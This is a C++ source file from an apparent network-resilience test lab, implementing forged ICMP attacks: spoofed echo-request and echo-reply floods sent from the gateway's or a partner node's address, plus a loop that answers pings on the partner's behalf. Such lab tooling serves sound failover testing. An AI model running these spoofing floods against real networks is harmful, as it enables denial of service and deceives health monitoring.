#include "lab/campaigns/hostile/IcmpForgery.h"

#include <algorithm>
#include <thread>

#include <netinet/ip_icmp.h>

#include "lab/campaigns/hostile/ArpSpoofing.h"
#include "lab/campaigns/hostile/Frames.h"
#include "lab/core/Plan.h"

namespace velarix::lab::hostile
{

namespace
{

/// In a millisecond: more than the ten pings of a probe, each of which is answered after two.
constexpr int packetsAtOnce = 20;

void flood(const AttackParameters& parameters, AttackTally& tally, std::uint8_t type)
{
	RawSender sender;
	std::vector<std::string> sources = sourcesNamed(parameters.target, parameters.payload);
	std::ranges::replace(sources, partnersAddress(parameters), parameters.partner);
	std::uint16_t id = 0; // of one agent in 65536
	while (!parameters.stop)
	{
		for (int packet = 0; packet < packetsAtOnce; ++packet)
		{
			for (const std::string& source : sources)
			{
				sender.sendIcmp(parameters.at, source, type, ++id, tally);
			}
		}
		std::this_thread::sleep_for(Millis(1));
	}
}

} // namespace

std::vector<std::string> sourcesNamed(HostId target, const std::string& word)
{
	if (word == "gateway")
	{
		return {plan::addressOf(HostId::gateway, Network::communication)};
	}
	if (word == "partner")
	{
		return {plan::addressOf(otherNode(target), Network::communication), plan::virtualAddress};
	}
	throw LabError("\"" + word + "\" is no source of forged ICMP: gateway, partner");
}

void floodReplies(const AttackParameters& parameters, AttackTally& tally)
{
	flood(parameters, tally, ICMP_ECHOREPLY);
}

void floodRequests(const AttackParameters& parameters, AttackTally& tally)
{
	flood(parameters, tally, ICMP_ECHO);
}

void answerForPartner(const AttackParameters& parameters, AttackTally& tally)
{
	RawSender sender;
	const auto id = static_cast<std::uint16_t>(std::stoul(parameters.payload));
	while (!parameters.stop)
	{
		sender.sendIcmp(parameters.at, parameters.partner, ICMP_ECHOREPLY, id, tally);
		std::this_thread::sleep_for(Millis(10));
	}
}

} // namespace velarix::lab::hostile
